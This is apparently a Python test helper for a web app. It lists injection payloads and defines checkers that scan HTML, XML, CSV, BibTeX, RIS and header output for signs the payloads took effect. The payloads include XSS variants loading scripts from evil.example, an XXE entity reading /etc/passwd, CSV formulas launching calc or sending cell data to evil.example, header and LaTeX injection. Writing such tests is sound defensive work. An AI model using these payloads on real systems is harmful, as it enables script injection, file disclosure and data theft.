"""Texts that would do harm where they were taken for more than text, and what looks for that.

Each would make an element `x-harm`, an attribute `data-harm`, a dialog that says "harm", an
address of a script, a formula or a header. `harms` looks for these, not for the payloads as such:
as text they may be shown.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator, Mapping
from urllib.parse import unquote, urlsplit
from xml.etree import ElementTree

from bs4 import BeautifulSoup, Comment
from werkzeug.test import TestResponse

PAYLOADS = (
    # Elements.
    "<script>alert('harm')</script>",
    "</script><script>alert('harm')</script>",
    "<x-harm>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert('harm')>",
    "<svg/onload=alert('harm')>",
    "<svg><script href=//evil.example/x.js />",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('harm')>",
    "<iframe srcdoc=\"<script>parent.alert('harm')</script>\">",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    "<form action=//evil.example/><button formaction=javascript:alert('harm')>",
    "--><x-harm><!--",
    "]]><x-harm><![CDATA[",
    "</title><x-harm>",
    "</textarea><x-harm>",
    "</noscript><x-harm></template><x-harm>",
    "<?xml version='1.0'?><x-harm/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x-harm>&e;</x-harm>",
    "&lt;x-harm&gt;&#60;x-harm&#62;&amp;lt;x-harm&amp;gt;",
    "＜x-harm＞＜script＞alert('harm')＜/script＞",
    "+ADw-script+AD4-alert('harm')+ADw-/script+AD4-",
    # Attributes.
    "\" data-harm=1 onmouseover=alert('harm') autofocus onfocus=alert('harm') x=\"",
    "' data-harm=1 onmouseover=alert('harm') x='",
    "` data-harm=1 onmouseover=alert('harm') x=`",
    " data-harm=1 onclick=alert('harm')",
    '"><x-harm data-harm="1">',
    '\\"><x-harm>',
    "/><x-harm/>",
    # Addresses.
    "javascript:alert('harm')",
    "JaVaScRiPt&colon;alert('harm')",
    "java\tscript:alert('harm')",
    "data:text/html,<script>alert('harm')</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/\"onmouseover=\"alert('harm')",
    "/\\evil.example/../..//",
    "?#&amp;q=<x-harm>%3Cx-harm%3E%22%3E%253Cx-harm%253E",
    # Scripts and templates.
    "\u2028alert('harm')//\u2029",
    "';alert('harm');//",
    "\\';alert('harm');//",
    "${alert('harm')}{{7*7}}{%x%}<%= 7*7 %>#{7*7}",
    '"}</script><x-harm>{"',
    "\\u003cx-harm\\u003e\\x3cx-harm\\x3e",
    # Formulas.
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"harm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    '","=1+1","',
    "';=1+1;'",
    "\u200b=1+1",
    "\u3000=1+1",
    # Headers and records.
    "x\r\nSet-Cookie: harm=1\r\n\r\n<x-harm>",
    "x\nER  - \nTY  - JOUR\nAU  - harm",
    "x},\n url = {javascript:alert('harm')}}\n@article{harm, title={",
    "}}\\input{/etc/passwd}\\write18{harm}{{",
    "\\end{document}$\\catcode`\\@=0",
    '"; filename="harm.exe"; x="',
    # What is not seen, and turns what is.
    "\u202eharm\u2066\u200b\ufeff\u00ad",
    "a\u0000b\u0007\u001b[31mharm\u009b31m",
    "\U000e0001\U000e0041\ufdd0\uffff",
    "Z̸̧͘͞a̡͠l̷̕g̀͟o" * 9,
)  # fmt: skip

# Where an element may lead or load from.
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset")
_NEVER = (
    *("x-harm", "iframe", "object", "embed", "style", "math", "frame", "applet"),
    *("animate", "set", "foreignobject", "template"),
)
_XML = re.compile(
    "feed|id|title|updated|author|name|link|entry|published|category|summary|"
    "oembed|type|version|width|height|html|provider_name|provider_url|cache_age|author_name|url|"
    "urlset|loc|lastmod|sitemapindex|sitemap|"
    "OpenSearchDescription|ShortName|Description|InputEncoding|OutputEncoding|Image|Url|LongName|"
    "Language|SyndicationRight|Query|Tags|Contact|Developer|Attribution|AdultContent"
)
_INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def harms(response: TestResponse) -> Iterator[str]:
    """What an answer lets through."""
    for name, value in response.headers:
        if _INVISIBLE.search(f"{name}{unquote(value)}") or "harm" in name.lower():
            yield f"header {name}: {value!r}"
    if response.headers.getlist("Set-Cookie") and "harm" in str(response.headers["Set-Cookie"]):
        yield "a cookie"
    if response.status_code in (301, 302, 303, 307, 308):
        if urlsplit(response.headers["Location"]).hostname not in (None, "localhost"):
            yield f"leads to {response.headers['Location']}"
        return
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        yield "no nosniff"
    look = _LOOKS.get(response.mimetype)
    if look is None:
        yield f"nobody looks at {response.mimetype}"
    elif response.get_data():
        yield from look(response.get_data(as_text=True))


def _in_html(text: str) -> Iterator[str]:
    soup = BeautifulSoup(text, "html5lib")
    for element in soup.find_all(True):
        if element.name.lower() in _NEVER:
            yield f"<{element.name}>"
        for key, value in element.attrs.items():
            if key.lower().startswith(("on", "style", "srcdoc", "data-harm", "http-equiv")):
                yield f"{element.name} {key}={value}"
            if key.lower() in _ADDRESSES and element.name == "base":
                # All links of the page begin with it: it is a path of ours, whatever was asked for.
                if not re.match(r"/(?:search|issue)/[^/\\]*/$", str(value)):
                    yield f"base {value}"
            elif key.lower() in _ADDRESSES and not _is_ours(str(value), loads=element.name != "a"):
                yield f"{element.name} {key}={value}"
        if element.name == "script":
            yield from _in_script(
                str(element.get("src", "")), str(element.get("type", "")), element.string
            )
    for comment in soup.find_all(string=lambda one: isinstance(one, Comment)):
        yield f"comment {comment[:40]!r}"


def _in_script(source: str, kind: str, text: str | None) -> Iterator[str]:
    if kind == "application/ld+json" and text:
        if re.search("[<>&\u2028\u2029]", text):
            yield f"linked data with {text[:80]!r}"
        json.loads(text)
    elif not source.startswith(("/assets/", "/embed.js")) or text:
        yield f"script {source} {text!r}"


def _is_ours(address: str, *, loads: bool) -> bool:
    """Whether an address leads to a page; what is loaded must be of this host."""
    plain = re.sub(r"[\x00-\x20\x7f-\x9f]", "", address)
    parts = urlsplit(plain.replace("\\", "/"))
    if parts.scheme not in ("", "http", "https", "mailto"):
        return False
    return parts.netloc in ("", "localhost") or (not loads and bool(parts.scheme))


def _in_json(text: str) -> Iterator[str]:
    json.loads(text)
    yield from ()


def _in_xml(text: str) -> Iterator[str]:
    if "<!DOCTYPE" in text or "<![CDATA[" in text:
        yield "a declaration"
    for element in ElementTree.fromstring(text).iter():
        name = str(element.tag).rpartition("}")[2]
        if not _XML.fullmatch(name):
            yield f"<{name}>"
        if element.get("type", "text") not in ("text", "text/html") and name in (
            "title",
            "summary",
        ):
            yield f"{name} of type {element.get('type')}"
        for key in ("href", "src", "template"):
            if not _is_ours((element.get(key) or "").partition("{")[0], loads=True):
                yield f"{name} {key}={element.get(key)}"


def _in_csv(text: str) -> Iterator[str]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    for row in rows:
        if len(row) not in (len(rows[0]), 1):
            yield f"{len(row)} cells and not {len(rows[0])}"
        for cell in row:
            seen = re.sub("^[\\s\u200b-\u200f\ufeff\u00ad]+", "", cell)
            if seen[:1] in tuple("=+-@＝＋－＠") or cell[:1] in ("\t", "\r", "\n"):
                yield f"cell {cell!r}"


def _in_bibtex(text: str) -> Iterator[str]:
    depth = 0
    for character in text:
        depth += {"{": 1, "}": -1}.get(character, 0)
        if depth < 0:
            yield "a brace too many"
    if depth:
        yield "a brace that stays open"
    first, *fields, last, end = text.split("\n")
    if not re.fullmatch(r"@(article|misc)\{[\w.:/+-]+,", first) or (last, end) != ("}", ""):
        yield f"{first!r} … {last!r}"
    for field in fields:
        if not re.fullmatch(r"  [a-z]+ = (\{.*\}|[a-z]{3}),?", field):
            yield f"field {field!r}"
        names = r"textbackslash|textbraceleft|textbraceright|textasciitilde|textasciicircum"
        if re.search(rf"\\(?!(?:{names})\{{\}}|[#$%&_])", field):
            yield f"command in {field!r}"


def _in_ris(text: str) -> Iterator[str]:
    rows = text.split("\r\n")
    for row in rows[:-1]:
        if not re.fullmatch(r"[A-Z][A-Z0-9]  - [^\r\n\x00-\x1f\x85\u2028\u2029]*", row):
            yield f"row {row!r}"
    tags = [row[:2] for row in rows]
    if (tags.count("TY"), tags.count("ER"), tags[0]) != (1, 1, "TY"):
        yield f"records {tags}"


def _in_text(text: str) -> Iterator[str]:
    if "harm" in text:
        yield text


_LOOKS: Mapping[str, Callable[[str], Iterator[str]]] = {
    "text/html": _in_html,
    "application/json": _in_json,
    "application/problem+json": _in_json,
    "application/json+oembed": _in_json,
    "application/x-suggestions+json": _in_json,
    "application/vnd.citationstyles.csl+json": _in_json,
    "application/atom+xml": _in_xml,
    "application/xml": _in_xml,
    "text/xml": _in_xml,
    "application/opensearchdescription+xml": _in_xml,
    "text/csv": _in_csv,
    "application/x-bibtex": _in_bibtex,
    "application/x-research-info-systems": _in_ris,
    "text/plain": _in_text,
}
